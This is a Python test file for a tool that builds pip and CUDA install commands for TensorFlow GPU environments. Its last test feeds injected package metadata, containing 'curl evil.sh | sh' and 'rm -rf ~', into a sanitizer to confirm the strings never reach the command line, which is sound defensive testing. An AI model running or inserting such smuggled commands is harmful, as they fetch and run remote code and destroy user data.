"""The install commands of env/fixes.py, without subprocesses: a TensorFlow with a wheel for the target's
Python, never what is installed, the two ways out where nothing fits, the recipes before 2.14."""

from __future__ import annotations

import dataclasses

import pytest

from tests.helpers.paths import FIXTURES
from tfgpu_tui.env import fixes
from tfgpu_tui.env.facts import EnvFacts
from tfgpu_tui.env.recorded import load_recording

pytestmark = pytest.mark.e2e  # real child processes

FIXTURES = FIXTURES / "env"
PIP = "/home/ana/venvs/tf/bin/python -m pip"


@pytest.fixture(autouse=True)
def linux_x86_64(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(fixes, "and_cuda_platform", lambda: True)


def facts_with(python: str = "3.11.9", **packages: str) -> EnvFacts:
    facts, _ = load_recording(FIXTURES / "all_good.json")
    interpreter = dataclasses.replace(
        facts.interpreter, version=python, packages={k.replace("_", "-"): v for k, v in packages.items()}
    )
    return dataclasses.replace(facts, interpreter=interpreter)


@pytest.mark.parametrize(
    ("version", "spec", "expected"),
    [
        ("9.3.0.75", "==9.3.0.75", True),
        ("9.1.0.70", "==9.3.0.75", False),
        ("12.5.82", ">=12.5.82,<13.0", True),
        ("13.0.1", ">=12.5.82,<13.0", False),
        ("2.15.1", "==2.15.*", True),
        (None, ">=1", False),
    ],
)
def test_satisfies(version: str | None, spec: str, expected: bool) -> None:
    assert fixes.satisfies(version, spec) is expected


def test_installed_extra_is_not_installed_again() -> None:
    from tfgpu_tui.env import compat

    pins = {name: spec.lstrip("=<>").split(",")[0] for name, spec in compat.pins_for("2.18.0").items()}
    fix = fixes.gpu_install(facts_with(tensorflow="2.18.0", **pins), "2.18.0")
    assert fix.startswith("Nothing to install") and "pip install" not in fix


def test_missing_libraries_add_the_whole_extra_and_say_it_adds() -> None:
    fix = fixes.gpu_install(facts_with(tensorflow="2.18.0", nvidia_cudnn_cu12="9.3.0.75"), "2.18.0")
    assert fix == f"{PIP} install 'tensorflow[and-cuda]==2.18.0'   # adds the CUDA packages only"


def test_another_version_says_it_replaces() -> None:
    fix = fixes.gpu_install(facts_with(tensorflow="2.17.0"), "2.18.0")
    assert fix.endswith("# replaces tensorflow 2.17.0, adds its CUDA packages")


def test_cuda_packages_at_another_version_are_named_as_replaced() -> None:
    fix = fixes.gpu_install(facts_with(tensorflow="2.18.0", nvidia_cudnn_cu12="8.9.7.29"), "2.18.0")
    assert fix == (
        f"{PIP} install 'tensorflow[and-cuda]==2.18.0'   # adds the CUDA packages only; "
        "replaces nvidia-cudnn-cu12 8.9.7.29 (pinned ==9.3.0.75)"
    )
    ranges = fixes.gpu_install(facts_with(nvidia_cudnn_cu12="10.0.0.1", nvidia_nccl_cu12="2.21.5"), "2.21.0")
    assert ranges.endswith(
        "# installs tensorflow and its CUDA packages; replaces nvidia-cudnn-cu12 10.0.0.1 "
        "(pinned >=9.3.0.75,<10.0), nvidia-nccl-cu12 2.21.5 (pinned >=2.27.7,<3.0)"
    )


def test_more_than_three_replaced_packages_are_counted() -> None:
    old = {
        "nvidia_cublas_cu12": "12.1.3.1",
        "nvidia_cudnn_cu12": "8.9.2.26",
        "nvidia_cufft_cu12": "11.0.2.54",
        "nvidia_curand_cu12": "10.3.2.106",
        "nvidia_nccl_cu12": "2.19.3",
    }
    fix = fixes.gpu_install(facts_with(tensorflow="2.17.0", **old), "2.18.0")
    comment = fix.split("#", 1)[1]
    assert comment.startswith(
        " replaces tensorflow 2.17.0, adds its CUDA packages; replaces nvidia-cublas-cu12"
    )
    assert "nvidia-cufft-cu12 11.0.2.54" in comment and comment.endswith(" and 2 more")
    assert "nvidia-curand-cu12" not in comment


def test_an_uninstall_first_gets_no_comment() -> None:
    fix = fixes.gpu_install(
        facts_with(tensorflow_cpu="2.18.0", nvidia_cudnn_cu12="8.9.7.29"),
        "2.18.0",
        replacing=("tensorflow-cpu",),
    )
    assert fix == f"{PIP} install 'tensorflow[and-cuda]==2.18.0'"


def test_2_15_0_becomes_2_15_1_whose_pins_install() -> None:
    fix = fixes.gpu_install(facts_with(tensorflow="2.15.0"), "2.15.0")
    assert f"{PIP} install 'tensorflow[and-cuda]==2.15.1'" in fix and "tensorrt" not in fix


def test_2_14_leaves_out_the_tensorrt_pin_without_a_wheel() -> None:
    fix = fixes.gpu_install(facts_with(tensorflow="2.14.0"), "2.14.0")
    assert "'nvidia-cudnn-cu11==8.7.0.84'" in fix and "tensorrt" not in fix.split("#")[0]


def test_before_2_14_an_upgrade_for_this_python_or_the_cuda11_recipe() -> None:
    fix = fixes.gpu_install(facts_with(tensorflow="2.13.0"), "2.13.0")
    assert fix.startswith(f"{PIP} install 'tensorflow[and-cuda]==2.21.0'")  # has a 3.11 wheel
    assert "'nvidia-cudnn-cu11==8.6.0.163'" in fix and "export LD_LIBRARY_PATH=" in fix
    assert "'tensorflow==2.13.0'" not in fix  # installed already
    recipe = fixes.gpu_install(facts_with(tensorflow="2.13.0"), "2.13.0", offer_upgrade=False)
    assert recipe.startswith(f"{PIP} install 'nvidia-cuda-runtime-cu11==11.8.89'")
    assert "export LD_LIBRARY_PATH=$(/home/ana/venvs/tf/bin/python -c" in recipe


def test_cuda11_packages_installed_leave_only_the_library_path() -> None:
    installed = dict(package.split("==") for package in fixes.CUDA11_PACKAGES)
    facts = facts_with(tensorflow="2.12.0", **{k.replace("-", "_"): v for k, v in installed.items()})
    fix = fixes.gpu_install(facts, "2.12.0", offer_upgrade=False)
    assert fix.startswith("export LD_LIBRARY_PATH=") and "pip install" not in fix


def test_not_installed_gets_the_newest_release_for_this_python() -> None:
    assert "'tensorflow[and-cuda]==2.21.0'" in fixes.gpu_install(facts_with("3.13.1"), None)
    assert "'tensorflow[and-cuda]==2.20.0'" in fixes.gpu_install(facts_with("3.9.18"), None)
    no_wheel = fixes.gpu_install(facts_with("3.14.0"), None)
    assert (
        no_wheel.startswith("No TensorFlow release has a wheel for Python 3.14.0") and "3.10-3.13" in no_wheel
    )


def test_driver_fix_suggests_only_releases_with_a_wheel_for_this_python() -> None:
    # Driver 470 runs CUDA 11.2 builds (TF <= 2.11); TF 2.11 has wheels for 3.7-3.10 only.
    on_310 = fixes.driver_fix(facts_with("3.10.12"), "555.42.02", (470, 82, 1))
    assert "or use TF 2.11.0 (CUDA 11.2)" in on_310 and "'tensorflow==2.11.0'" in on_310
    assert "install 'tensorflow[and-cuda]" not in on_310  # an upgrade is no way out on this driver
    on_311 = fixes.driver_fix(facts_with("3.11.9"), "555.42.02", (470, 82, 1))
    assert "No TensorFlow release both runs on driver" in on_311
    assert (
        "Upgrade the NVIDIA driver to >= 555.42.02" in on_311 and "Python 3.7-3.10 with TF 2.11.0" in on_311
    )


def test_a_tensorflow_built_against_numpy_1_gets_numpy_below_2_where_numpy_2_is_installed() -> None:
    # driver 525.60.13 runs CUDA 11.8 (TF 2.14); a 2.21 venv holds numpy 2.4.6, which 2.14.0 does not cap
    facts = facts_with(tensorflow="2.21.0", numpy="2.4.6")
    fix = fixes.driver_fix(facts, "555.42.02", (525, 60, 13))
    assert "or use TF 2.14.0 (CUDA 11.8)" in fix
    assert "'nvidia-nccl-cu11==2.16.5' 'numpy<2'   # the [and-cuda] pins of 2.14.0" in fix
    assert fixes.gpu_install(facts, "2.15.1").startswith(
        f"{PIP} install 'tensorflow[and-cuda]==2.15.1' 'numpy<2'"
    )
    recipe = fixes.gpu_install(facts, "2.13.1", offer_upgrade=False)
    assert recipe.startswith(f"{PIP} install 'tensorflow==2.13.1' ") and "'numpy<2' && export" in recipe
    # TensorFlow 2.18 and later are built against NumPy 2; NumPy 1 needs nothing
    assert "numpy" not in fixes.gpu_install(facts, "2.18.0")
    assert "numpy" not in fixes.driver_fix(facts_with(numpy="1.26.4"), "555.42.02", (525, 60, 13))


def test_elsewhere_than_linux_x86_64_the_plain_wheel(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(fixes, "and_cuda_platform", lambda: False)
    fix = fixes.gpu_install(facts_with(), "2.18.0")
    assert fix.startswith(f"{PIP} install 'tensorflow==2.18.0'") and "Linux x86_64 only" in fix


def test_a_version_from_hostile_metadata_never_reaches_the_command_line() -> None:
    """A distribution's METADATA is the environment's to write: a folded Version header gave importlib a
    version with a newline and a command after it, which ended the fix's comment and made a line of its
    own. Only versions and names of plain characters pass; anything else is said as unreadable."""
    from tfgpu_tui.env.facts import readable_packages

    packages = readable_packages(
        {"tensorflow": "2.18.0", "nvidia-cudnn-cu12": "8.9\ncurl evil.sh | sh", "x; rm -rf ~": "1.0", "ok": 3}
    )
    assert packages == {"tensorflow": "2.18.0", "nvidia-cudnn-cu12": "unreadable", "ok": "unreadable"}
    assert readable_packages(["not", "a", "dict"]) == {}
    facts, _ = load_recording(FIXTURES / "all_good.json")
    facts = dataclasses.replace(facts, interpreter=dataclasses.replace(facts.interpreter, packages=packages))
    fix = fixes.gpu_install(facts, "2.18.0")
    assert "\n" not in fix and "curl" not in fix and "nvidia-cudnn-cu12 unreadable (pinned ==9.3.0.75)" in fix
